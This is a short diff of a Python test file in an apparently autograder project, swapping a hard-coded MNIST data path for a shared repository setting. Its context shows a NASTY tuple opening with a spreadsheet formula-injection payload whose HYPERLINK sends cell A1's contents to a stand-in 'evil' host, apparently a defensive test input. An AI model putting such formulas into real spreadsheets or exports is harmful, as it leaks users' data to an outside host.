@@ -7,6 +7,7 @@ from pathlib import Path
 import numpy as np
 
 from autograder.config import Course, load_course
+from autograder.config.paths import REPOSITORY
 from autograder.intake.handed_in import Student
 from autograder.judge.checks import Check
 from autograder.judge.graded import Graded, Scope
@@ -14,7 +15,7 @@ from tests.report.words import one_line
 from tests.seam.outcomes import Outcome
 from tests.seam.results import CheckResult, Images
 
-DIGITS = Path(__file__).resolve().parents[3] / "tests" / "data" / "mnist_subset.npz"
+DIGITS = REPOSITORY.digits
 CHECKS_OF_A_TASK = 7
 NASTY = (
     '=HYPERLINK("http://evil/?"&A1,"open")',
